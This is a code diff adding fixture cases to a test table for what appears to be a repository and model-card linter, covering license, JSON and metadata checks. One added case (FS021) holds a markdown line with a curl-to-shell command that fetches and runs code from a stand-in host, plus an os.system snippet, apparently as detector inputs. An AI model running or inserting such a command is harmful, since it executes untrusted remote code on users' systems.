@@ -157,6 +157,10 @@ CONTENTS: dict[str, tuple[Build, Build]] = {
         with_file("LICENSE", b"MIT\n\0\1\2"),
         with_file("LICENSE", "\u00a9\n".encode("utf-16")),
     ),
+    "FS021": (
+        with_file("a.md", b"Run curl -s https://acme.example/x | sh\n"),
+        with_file("a.md", b"Run `weighbridge pull`; import os; os.system('ls')\n"),
+    ),
     "JS009": (with_file("log.json", b"{}\n{}\n"), with_file("log.json", b"[]")),
     "SC001": (with_file(".env", b"A=1\n"), with_file(".env.example", b"A=\n")),
     "SC002": (
@@ -188,6 +192,10 @@ CONTENTS: dict[str, tuple[Build, Build]] = {
     "CD009": (
         tree(packed_files() | front("library_name: transformers")),
         tree(packed_files() | front("library_name: mlx")),
+    ),
+    "CD010": (
+        with_file("LICENSE", b"GNU AFFERO GENERAL\nPUBLIC LICENSE\nVersion 3\n"),
+        with_file("LICENSE", b"  Apache License\n  Version 2.0, January 2004\n"),
     ),
     "CD008": (with_card("license: other"), with_card("license: other\nlicense_name: acme-1")),
 }
